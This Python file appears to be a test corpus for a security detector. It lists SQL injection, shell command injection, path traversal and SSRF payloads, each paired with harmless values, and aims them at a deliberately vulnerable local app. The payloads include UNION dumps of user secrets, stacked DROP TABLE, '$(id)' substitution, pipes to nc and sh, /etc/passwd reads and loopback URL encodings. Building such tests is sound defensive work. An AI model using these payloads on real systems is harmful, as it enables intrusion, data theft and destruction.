"""The accuracy corpus: attacks and honest values for the endpoints of ``vulnerable.py``.

Each :class:`Case` is one request ``GET /case/<family>/<context>?v=<value>``. Attacks go to
vulnerable contexts only; honest values go to the careful ``safe_*`` contexts and to
vulnerable contexts where, per the oracle, they change nothing (no quote in a quoted SQL
slot, one plain word on a shell line, a file inside the base folder, a path behind the
app's own host). Some attacks are meant to fail on this stack (MySQL's ``#`` against SQLite,
bash-only syntax under dash, an IPv6 loopback nothing listens on, a NUL byte Python refuses):
the oracle run without an agent tells which attacks really exploit, and only those count.

SSRF values hold ``{port}``, the canary's port: clients must send
``materialize(case, canary_port)``, never ``case.value`` itself. No value names a host off
this machine, and none makes the process look up a name other than ``localhost``.

Written for this project; the project's own detector tables (tests/detectors/) lent some
values. Nothing is copied from other tools' payload lists.
"""

from __future__ import annotations

from dataclasses import dataclass

PORT = "{port}"
TWELVE_UP = "../" * 12  # deeper than any sandbox: climbs to /


@dataclass(frozen=True)
class Case:
    family: str  # "sql" | "shell" | "path" | "ssrf"
    context: str  # a context of vulnerable.CONTEXTS[family]; safe_* are the careful twins
    value: str  # the user input, sent as query parameter ``v`` (after ``materialize``)
    kind: str  # "attack" | "honest"
    label: str  # unique within the corpus, e.g. "sql-str-union"


def materialize(case: Case, canary_port: int) -> str:
    """The value to send for ``case``: ``{port}`` replaced by the canary's port."""
    return case.value.replace(PORT, str(canary_port))


def _group(family: str, context: str, kind: str, *pairs: tuple[str, str]) -> list[Case]:
    return [
        Case(family, context, value, kind, f"{family}-{context}-{name}") for name, value in pairs
    ]


def _attacks(family: str, context: str, *pairs: tuple[str, str]) -> list[Case]:
    return _group(family, context, "attack", *pairs)


def _honest(family: str, context: str, *pairs: tuple[str, str]) -> list[Case]:
    return _group(family, context, "honest", *pairs)


_SQL = [
    # WHERE name = '{v}'
    *_attacks("sql", "str",
        ("or-quoted", "' OR '1'='1"),
        ("or-comment", "x' OR 1=1 --"),
        ("or-lowercase", "nobody' or 'a'='a"),
        ("union-secrets", "' UNION SELECT id, name, secret FROM users --"),
        ("union-all-version", "' UNION ALL SELECT 1, sqlite_version(), 3 --"),
        ("union-mixed-case", "zzz' UnIoN SeLeCt id, secret, 0 FrOm users WHERE '1'='1"),
        ("comment-spaces", "'/**/OR/**/1=1/**/--"),
        ("hash-comment", "' OR 1=1 #"),
        ("stacked-delete", "'; DELETE FROM users; --"),
        ("or-like-all", "' OR name LIKE '%"),
        ("blind-version", "red chair' AND substr(sqlite_version(),1,1)='3"),
        ("blind-count", "' OR (SELECT count(*) FROM users) > 0 --"),
        ("backslash-quote", "\\' OR 1=1 --"),
        ("or-dash-dash-dash", "' OR 1=1 -- -"),
        ("like-tautology", "x' OR 'x' LIKE 'x"),
        ("concat-secret", "'||(SELECT secret FROM users LIMIT 1)||'"),
        ("randomblob", "' OR randomblob(8) IS NOT NULL --"),
        ("union-group-concat", "x' AND 1=0 UNION SELECT 1, group_concat(secret), 2 FROM users --"),
        ("group-having", "' GROUP BY name HAVING 1=1 --"),
        ("not-false", "' OR NOT 0=1 --"),
    ),
    # WHERE name LIKE '%{v}%' AND category != 'hidden'
    *_attacks("sql", "like",
        ("hidden-rows", "%' OR category = 'hidden' --"),
        ("union-users", "x%' UNION SELECT id, name, secret FROM users --"),
        ("drop-filter", "%' AND 1=1 --"),
        ("or-like", "chair%' OR '1' LIKE '1"),
        ("escape-clause", "%' ESCAPE '!"),
        ("heavy-join", "' AND (SELECT count(*) FROM products a, products b, products c) > 0"
                       " AND '%'='"),
        ("sqlite-master", "%' UNION SELECT 1, sql, 2 FROM sqlite_master --"),
    ),
    # WHERE id = {v}
    *_attacks("sql", "num",
        ("or-1-eq-1", "0 OR 1=1"),
        ("or-lowercase", "1 or 1=1"),
        ("union-secrets", "-1 UNION SELECT id, name, secret FROM users"),
        ("union-comment-spaces", "1 UNION/**/SELECT/**/1,2,3"),
        ("stacked-drop", "1;DROP TABLE users"),
        ("blind-true", "1 AND 1=1"),
        ("blind-false", "1 AND 1=2"),
        ("subquery", "(SELECT 2)"),
        ("arithmetic", "2-1"),
        ("or-newline", "1\nOR 1=1"),
        ("or-tabs", "1\tOR\t2>1"),
        ("hex-or", "0x1 OR 1"),
        ("open-block-comment", "1 OR 1 = 1 /*"),
        ("blind-secret-char",
         "1 AND unicode(substr((SELECT secret FROM users WHERE id=1),1,1)) > 64"),
        ("mysql-sleep", "1 AND sleep(5)"),
        ("load-extension", "1 AND load_extension('x')"),
        ("mysql-executable-comment", "1 /*!UNION SELECT 1,2,3*/"),
        ("union-sqlite-master", "1 UNION SELECT 1, sql, 3 FROM sqlite_master"),
        ("case-when", "(CASE WHEN 1=1 THEN 3 ELSE 4 END)"),
        ("between", "1 OR id BETWEEN 2 AND 4"),
    ),
    # WHERE id = {v} AND category != 'hidden'
    *_attacks("sql", "num_and",
        ("dash-comment", "18 --"),
        ("or-precedence", "18 OR 1=1"),
        ("hash-comment", "18 #"),
        ("open-block-comment", "18/*"),
        ("dash-dash-plus", "18 --+"),
        ("is-not-null", "0 OR id IS NOT NULL"),
    ),
    # ORDER BY {v}
    *_attacks("sql", "order",
        ("case-subquery", "(CASE WHEN (SELECT substr(secret,1,1) FROM users WHERE id=1)='S'"
                          " THEN price ELSE name END)"),
        ("stacked", "name; DROP TABLE users"),
        ("adds-limit", "price LIMIT 1"),
        ("subquery", "(SELECT secret FROM users)"),
        ("second-key", "price, (SELECT count(*) FROM users)"),
        ("comment", "name--"),
    ),
    # WHERE name = '{v}' AND secret = '...'
    *_attacks("sql", "login",
        ("admin-dash-dash", "admin'--"),
        ("admin-dash-dash-space", "admin' -- "),
        ("or-limit", "' OR 1=1 LIMIT 1 --"),
        ("admin-block-comment", "admin'/*"),
        ("admin-hash", "admin' #"),
        ("or-quoted-comment", "x' OR '1'='1' --"),
        ("precedence-fails", "x' OR name='admin' AND ''='"),
    ),
    # UPDATE products SET note = '{v}' WHERE id = 3
    *_attacks("sql", "update",
        ("extra-assignment", "x', price = 0 --"),
        ("every-row", "x' WHERE 1=1 --"),
        ("copy-secret", "x', name = (SELECT secret FROM users WHERE id = 1) WHERE id = 3 --"),
        ("concat-secrets", "'||(SELECT group_concat(secret) FROM users)||'"),
    ),
    # executescript: INSERT INTO feedback (body) VALUES ('{v}');
    *_attacks("sql", "script",
        ("stacked-delete", "x'); DELETE FROM users; --"),
        ("stacked-update", "x'); UPDATE products SET price = 0; --"),
        ("stacked-drop", "x'); DROP TABLE users; --"),
        ("stacked-insert-user", "'); INSERT INTO users (name, secret) VALUES ('mallory', 'x'); --"),
        ("concat-secret", "x' || (SELECT secret FROM users WHERE id = 2) || '"),
        ("extra-row", "a'), ('b"),
    ),
    # Honest values where they change nothing.
    *_honest("sql", "str",
        ("name", "oak chair"), ("comma", "red chair, oak"), ("drop-prose", "Drop table covers"),
        ("select-prose", "select the best -- option"), ("ampersand", "Tom & Jerry mug"),
        ("percent", "50% wool rug"), ("cjk", "東京 lantern"), ("emoji", "stool 🪑"),
        ("accent", "café table"), ("union-prose", "union jack flag"),
        ("tautology-prose", "1=1 is always true"), ("block-comment-prose", "best /* ever */ day"),
        ("double-quotes", 'he said "hi"'), ("semicolons", "one; two; three"),
        ("hashtag", "#hashtag #sql"), ("dashes", "--"), ("formula", "f(x) = (a + b) * c"),
        ("keyword", "SELECT"), ("table-name", "users"), ("cyrillic", "Привет, мир!"),
        ("backtick", "back`tick"), ("brackets", "[draft] notes"),
        ("email", "john.doe+news@example.com"), ("multiline", "line one\nline two"),
    ),
    *_honest("sql", "like",
        ("word", "chair"), ("two-words", "desk lamp"), ("percent", "50%"),
        ("or-prose", "Tom or Jerry"),
        ("select-word", "select"), ("dash-prose", "oak -- pine"),
    ),
    *_honest("sql", "num", ("one", "1"), ("seven", "7"), ("twenty", "20"), ("absent", "42")),
    *_honest("sql", "num_and", ("three", "3"), ("hidden", "18"), ("twelve", "12")),
    *_honest("sql", "order", ("name", "name"), ("price", "price"), ("id", "id")),
    *_honest("sql", "login", ("alice", "alice"), ("admin", "admin")),
    *_honest("sql", "update",
        ("gift", "Gift wrap, please"), ("semicolon", "deliver after 5pm; ring twice"),
        ("dashes", "Fragile -- handle with care"), ("drop", "Drop it at the back door"),
        ("emoji", "😀 thanks!"),
    ),
    *_honest("sql", "script",
        ("semicolon", "Great desk; would buy again"), ("dashes", "5 stars -- love it"),
        ("drop", "DROP me a line"), ("parentheses", "Loved it (really)"),
    ),
    *_honest("sql", "safe_bound",
        ("apostrophe", "O'Brien armchair"), ("surname", "O'Brien"), ("its", "it's"),
        ("possessive", "Zoë's cushion"), ("french", "l'été"),
        ("quote-prose", "Don't drop the table, union rules!"),
        ("rock", "rock 'n' roll"), ("name", "red chair, oak"),
    ),
    *_honest("sql", "safe_like",
        ("apostrophe", "O'Brien"), ("possessive", "Zoë's"), ("percent", "100% sure"),
        ("its", "it's a chair"),
    ),
]  # fmt: skip

_SHELL = [
    # ping -c 1 {v}
    *_attacks("shell", "ping",
        ("semicolon", "127.0.0.1; id"), ("leading-semicolon", ";id"),
        ("and", "127.0.0.1 && whoami"), ("or", "x || uname -a"),
        ("pipe", "127.0.0.1 | cat /etc/passwd"), ("background", "127.0.0.1 & id"),
        ("newline", "127.0.0.1\nid"), ("crlf", "x\r\nid"),
        ("substitution", "$(id)"), ("backticks", "`whoami`"),
        ("ifs", "x;cat${IFS}/etc/passwd"), ("ifs-alone", "${IFS}id"),
        ("redirect", "127.0.0.1 > out.txt"), ("flood-args", "-f -s 65507 127.0.0.1"),
        ("comment", "127.0.0.1 #"), ("subshell", "(id)"),
        ("time-blind", "127.0.0.1;sleep 5"), ("substituted-sleep", "$(sleep 5)"),
        ("fd-redirect", "127.0.0.1 2>&1"), ("absolute-binary", "127.0.0.1;/usr/bin/id"),
        ("touch", "127.0.0.1;touch pwned"), ("bash-brace-expansion", "{cat,/etc/passwd}"),
        ("bash-process-substitution", "<(id)"), ("encoded-newline", "127.0.0.1%0aid"),
        ("curl-ifs", "x$(curl${IFS}-s${IFS}127.0.0.1)"), ("echo-ifs", "127.0.0.1;echo${IFS}pwned"),
    ),
    # convert '{v}' -resize 64x64 thumb.png
    *_attacks("shell", "convert_sq",
        ("breakout", "x'; id; '"), ("glued", "a';whoami;'"),
        ("extra-args", "photo.png' -write thumbs/x '"), ("substitution", "x' $(id) '"),
        ("backticks", "x'`whoami`'"), ("apostrophe", "it's"),
        ("quoted-substitution", "$(id)"), ("newline", "x'\nid\n'"),
        ("pipe-nc", "x' | nc 127.0.0.1 4444 #"),
    ),
    # grep -i "{v}" catalog.txt
    *_attacks("shell", "grep_dq",
        ("substitution", "$(id)"), ("backticks", "`whoami`"), ("breakout", '"; id; "'),
        ("home", "$HOME"), ("path", "${PATH}"), ("extra-file", '" /etc/passwd "'),
        ("trailing-backslash", "x\\"), ("arithmetic", "$((7*6))"), ("pipe", '"|id #'),
    ),
    # git log --author={v} --oneline
    *_attacks("shell", "git_author",
        ("output-option", "x --output=pwned.txt"), ("semicolon", "alice;uname -a"),
        ("substitution", "$(whoami)"), ("tab", "alice\twhoami"), ("pipe-sh", "x|sh"),
        ("and", "alice&&id"),
    ),
    # os.system: tar czf backup-{v}.tgz data
    *_attacks("shell", "tar_system",
        ("to-command", "x --to-command=id"), ("semicolon", "x; id"), ("substitution", "$(uname)"),
        ("backticks", "x`id`"), ("or", "x || whoami"), ("newline", "x\nid"),
    ),
    # ["/bin/sh", "-c", "nslookup {v} 127.0.0.1"]
    *_attacks("shell", "sh_c",
        ("semicolon", "a;id"), ("substitution", "$(id)"), ("pipe", "x | base64"),
        ("and", "x && ps"),
    ),
    *_honest("shell", "ping",
        ("ipv4", "127.0.0.1"), ("localhost", "localhost"), ("name", "example.com"),
        ("hyphen", "host-01.internal"), ("ipv6", "2001:db8::1"), ("private", "192.168.1.10"),
        ("idn", "xn--bcher-kva.example"), ("number", "42"), ("hash-in-word", "issue#42"),
    ),
    *_honest("shell", "convert_sq",
        ("spaces", "my photo.png"), ("parentheses", "holiday photo (1).jpg"),
        ("ampersand", "Tom & Jerry.png"), ("semicolon", "a;b.png"),
        ("double-quotes", 'he said "hi".png'), ("dollar", "$5 deal.png"),
        ("percent", "50% off!.png"), ("comma", "red chair, oak.jpg"),
        ("windows-path", "C:\\Users\\me\\pic.png"), ("cjk", "東京タワー.png"),
    ),
    *_honest("shell", "grep_dq",
        ("ampersand", "Tom & Jerry"), ("semicolon", "a;b"), ("comma", "red chair, oak"),
        ("apostrophe", "O'Brien"), ("pipe-prose", "error | warning"), ("percent", "50% off!"),
        ("hash", "it's #1"), ("parentheses", "(draft)"), ("greater", "x > y"),
        ("glob", "*.log"), ("lone-dollar", "costs 5 $"),
    ),
    *_honest("shell", "git_author",
        ("name", "alice"), ("accent", "Zoë"), ("email", "john.doe+news@example.com"),
        ("underscore", "bob_smith"),
    ),
    *_honest("shell", "tar_system", ("date", "2024-06-01"), ("word", "weekly"),
             ("version", "v1.2.3")),
    *_honest("shell", "sh_c", ("name", "example.com"), ("internal", "db.internal")),
    *_honest("shell", "safe_argv",
        ("ampersand", "Tom & Jerry"), ("semicolon", "a;b"), ("apostrophe", "O'Brien"),
        ("sentence", "my host; the second one"), ("rock", "rock 'n' roll"),
    ),
    *_honest("shell", "safe_quote",
        ("ampersand", "Tom & Jerry"), ("semicolon", "a;b"), ("possessive", "O'Brien's laptop"),
        ("percent", "50% off!"), ("pipe-prose", "cats | dogs"),
    ),
]  # fmt: skip

_PATH = [
    *_attacks("path", "join",
        ("parent-secret", "../secret.txt"), ("deep-passwd", f"{TWELVE_UP}etc/passwd"),
        ("through-subdir", "manuals/../../secret.txt"), ("absolute", "/etc/passwd"),
        ("absolute-hostname", "/etc/hostname"), ("double-slash", "//etc/passwd"),
        ("dot-parent", "./../secret.txt"), ("dot-climb", "manuals/./../../secret.txt"),
        ("doubled-slashes", "manuals//..//..//secret.txt"), ("backslashes", "..\\..\\secret.txt"),
        ("nul-suffix", "../secret.txt\x00.pdf"), ("four-dots", "....//secret.txt"),
        ("dotdot-dir", ".."), ("back-in-out", "../files/../secret.txt"),
        ("proc-version", "/proc/version"), ("absolute-climb", "/etc/../etc/passwd"),
        ("shallow-passwd", "../../etc/passwd"),
    ),
    *_attacks("path", "concat",
        ("parent-secret", "../secret.txt"), ("deep-passwd", f"{TWELVE_UP}etc/passwd"),
        ("through-subdir", "manuals/../../secret.txt"), ("slash-parent", "/../secret.txt"),
        ("double-slash-parent", "..//secret.txt"), ("three-dots", ".../secret.txt"),
        ("absolute", "/etc/passwd"),
    ),
    *_attacks("path", "txt",
        ("parent-secret", "../secret"), ("deep-passwd", f"{TWELVE_UP}etc/passwd"),
        ("nul-truncation", "../secret.txt\x00"), ("through-subdir", "manuals/../../secret"),
    ),
    *_attacks("path", "unquote",
        ("encoded-slash", "..%2fsecret.txt"), ("encoded-dots", "%2e%2e%2fsecret.txt"),
        ("encoded-upper", f"{'%2E%2E/' * 12}etc/passwd"), ("encoded-absolute", "%2fetc%2fpasswd"),
        ("double-encoded", "..%252fsecret.txt"), ("encoded-hostname", "%2fetc%2fhostname"),
        ("encoded-dots-plain-slash", "%2e%2e/secret.txt"), ("encoded-nul", "secret.txt%00.pdf"),
    ),
    *_attacks("path", "pathlib",
        ("parent-secret", "../secret.txt"), ("absolute", "/etc/passwd"),
        ("through-subdir", "manuals/../../secret.txt"),
        ("deep-hostname", f"{TWELVE_UP}etc/hostname"),
    ),
    *_attacks("path", "stripped",
        ("four-dots", "....//secret.txt"), ("dot-dot-dot-slash", "..././secret.txt"),
        ("plain-parent", "../secret.txt"), ("absolute", "/etc/passwd"),
        ("deep-four-dots", f"{'....//' * 12}etc/passwd"),
    ),
    *_attacks("path", "normpath",
        ("parent-secret", "../secret.txt"), ("deep-passwd", f"{TWELVE_UP}etc/passwd"),
        ("through-subdir", "manuals/../../secret.txt"), ("absolute", "/etc/passwd"),
    ),
    *[case for context in ("join", "concat", "pathlib")
      for case in _honest("path", context,
        ("pdf", "report-2024.pdf"), ("dotted", "notes.v2.txt"), ("double-dot", "report..final.pdf"),
        ("double-dot-mid", "my..notes.txt"), ("dots-first", "..hidden"),
        ("subdir", "manuals/lamp.txt"), ("versioned-dir", "manuals/v1.2/desk.txt"),
        ("space", "a b.txt"), ("percent", "50% off.txt"), ("accent", "résumé.txt"),
        ("cjk", "東京/写真.txt"), ("apostrophe", "O'Brien.txt"),
        ("up-and-back", "manuals/../report-2024.pdf"), ("dot-slash", "./readme.txt"),
        ("missing", "missing-file.pdf"),
    )],
    *_honest("path", "join", ("ampersand", "Tom & Jerry.txt"), ("semicolon", "a;b.txt"),
             ("tarball", "data.tar.gz"), ("dot-in-middle", "manuals/./chair.txt")),
    *_honest("path", "txt", ("readme", "readme"), ("dotted", "notes.v2"),
             ("subdir", "manuals/lamp"), ("space", "a b"), ("apostrophe", "O'Brien")),
    *_honest("path", "unquote", ("encoded-space", "a%20b.txt"),
             ("encoded-percent", "50%25 off.txt"),
             ("encoded-subdir", "manuals%2Flamp.txt"), ("plain", "readme.txt")),
    *_honest("path", "normpath", ("up-and-back", "manuals/../readme.txt"),
             ("dot-slash", "./notes.v2.txt")),
    *_honest("path", "stripped", ("plain", "readme.txt"), ("subdir", "manuals/chair.txt")),
    *_honest("path", "safe_basename", ("pdf", "report-2024.pdf"), ("subdir", "manuals/lamp.txt"),
             ("fakepath", "C:\\fakepath\\readme.txt"), ("double-dot", "report..final.pdf")),
    *_honest("path", "safe_resolve", ("up-and-back", "manuals/../readme.txt"),
             ("double-dot", "report..final.pdf"), ("versioned-dir", "manuals/v1.2/desk.txt")),
]  # fmt: skip

_SSRF = [
    # urllib.request.urlopen(v)
    *_attacks("ssrf", "url",
        ("loopback", f"http://127.0.0.1:{PORT}/admin"), ("localhost", f"http://localhost:{PORT}/"),
        ("localhost-upper", f"http://LOCALHOST:{PORT}/"), ("scheme-upper", f"HTTP://127.0.0.1:{PORT}/"),
        ("short-two", f"http://127.1:{PORT}/"), ("short-three", f"http://127.0.1:{PORT}/"),
        ("decimal", f"http://2130706433:{PORT}/"), ("hex", f"http://0x7f000001:{PORT}/"),
        ("hex-first", f"http://0x7F.0.0.1:{PORT}/"), ("octal-dotted", f"http://0177.0.0.1:{PORT}/"),
        ("octal", f"http://017700000001:{PORT}/"), ("zero-padded", f"http://127.000.000.001:{PORT}/"),
        ("unspecified", f"http://0.0.0.0:{PORT}/"), ("zero", f"http://0:{PORT}/"),
        ("v6-loopback", f"http://[::1]:{PORT}/"), ("v4-mapped", f"http://[::ffff:127.0.0.1]:{PORT}/"),
        ("v4-mapped-hex", f"http://[::ffff:7f00:1]:{PORT}/"),
        ("v4-mapped-long", f"http://[0:0:0:0:0:ffff:127.0.0.1]:{PORT}/"),
        ("percent-host", f"http://%31%32%37.0.0.1:{PORT}/"), ("query-at", f"http://127.0.0.1:{PORT}?@"),
        ("other-loopback", f"http://127.127.127.127:{PORT}/"),
        ("scheme-relative", f"//127.0.0.1:{PORT}/"),
        ("full-width", f"http://\uff11\uff12\uff17.\uff10.\uff10.\uff11:{PORT}/"),
    ),
    # urlopen(f"http://{v}/status")
    *_attacks("ssrf", "host",
        ("loopback", f"127.0.0.1:{PORT}"), ("localhost", f"localhost:{PORT}"),
        ("short", f"127.1:{PORT}"), ("decimal", f"2130706433:{PORT}"),
        ("hex", f"0x7f000001:{PORT}"),
        ("unspecified", f"0.0.0.0:{PORT}"), ("v4-mapped", f"[::ffff:127.0.0.1]:{PORT}"),
        ("path-cut", f"127.0.0.1:{PORT}/admin?"), ("fragment-cut", f"127.0.0.1:{PORT}#"),
        ("mixed-case", f"LocalHost:{PORT}"), ("v6-loopback", f"[::1]:{PORT}"),
    ),
    # urlopen(f"http://{v}:<canary port>/status")
    *_attacks("ssrf", "host_port",
        ("loopback", "127.0.0.1"), ("localhost", "localhost"), ("short", "127.1"),
        ("octal-dotted", "0177.0.0.1"), ("hex-two", "0x7f.1"), ("decimal", "2130706433"),
        ("zero", "0"), ("v4-mapped-hex", "[::ffff:7f00:1]"),
        ("query-cut", f"127.0.0.1:{PORT}/x?"), ("v6-loopback", "[::1]"),
    ),
    # urlsplit(v) + http.client
    *_attacks("ssrf", "webhook",
        ("loopback", f"http://127.0.0.1:{PORT}/hook"), ("userinfo", f"http://user@127.0.0.1:{PORT}/"),
        ("user-pass", f"http://user:pass@localhost:{PORT}/"), ("two-ats", f"http://a@b@127.0.0.1:{PORT}/"),
        ("decimal", f"http://2130706433:{PORT}/"), ("v4-mapped", f"http://[::ffff:127.0.0.1]:{PORT}/"),
        ("unspecified", f"http://0.0.0.0:{PORT}/"), ("https-scheme", f"https://127.0.0.1:{PORT}/"),
        ("localhost-upper", f"http://LOCALHOST:{PORT}"), ("hex", f"http://0x7f000001:{PORT}/"),
    ),
    # the app's backend + v, through urlsplit + http.client
    *_attacks("ssrf", "proxy_path",
        ("userinfo", f"@127.0.0.1:{PORT}/"), ("userinfo-localhost", f"@localhost:{PORT}/admin"),
        ("userinfo-decimal", f"@2130706433:{PORT}/"),
        ("userinfo-v4-mapped", f"@[::ffff:127.0.0.1]:{PORT}/"),
        ("glued-userinfo", f"x@127.0.0.1:{PORT}/"), ("userinfo-zero", f"@0:{PORT}/"),
    ),
    *_honest("ssrf", "proxy_path",
        ("item", "/items/42"), ("search", "/search?q=red%20chair"), ("user", "/users/alice"),
        ("status", "/status"), ("paged", "/v2/orders?page=2&size=50"),
        ("encoded", "/catalog/caf%C3%A9"),
        ("json", "/a/b/c.json"), ("fragment", "/items/42#top"), ("health", "/health"),
        ("dotted-file", "/files/report..final.pdf"), ("encoded-hash", "/tags/%23sql"),
        ("repeated-key", "/items?id=1&id=2"),
    ),
    *_honest("ssrf", "safe_query",
        ("words", "red chair"), ("loopback-text", "127.0.0.1"), ("localhost-text", "localhost"),
        ("url-text", "http://127.0.0.1:8080/admin"), ("public-url", "https://example.com/a?b=c"),
        ("apostrophe", "O'Brien"), ("ampersand", "Tom & Jerry"), ("cjk", "東京"),
        ("slashes", "a/b/c"),
        ("query-text", "?x=1&y=2"), ("percent", "50% off"), ("local-email", "alice@localhost"),
        ("v6-text", "[::1]"), ("hex-text", "0x7f000001"), ("email", "user@example.com"),
        ("anchor-url", "https://docs.example.org/guide#intro"),
        ("accent", "Zoë"), ("plus-equals", "a+b=c"), ("hashtag", "#hashtag"),
    ),
    *_honest("ssrf", "safe_path",
        ("number", "42"), ("words", "red chair"), ("apostrophe", "O'Brien"), ("slash", "a/b"),
        ("dots", ".."), ("localhost-text", "localhost"), ("accent", "café"), ("emoji", "🙂"),
        ("url-text", "http://localhost/"), ("decimal-text", "2130706433"),
        ("double-dot-file", "report..final.pdf"), ("percent", "50%"),
    ),
]  # fmt: skip

CASES: tuple[Case, ...] = (*_SQL, *_SHELL, *_PATH, *_SSRF)
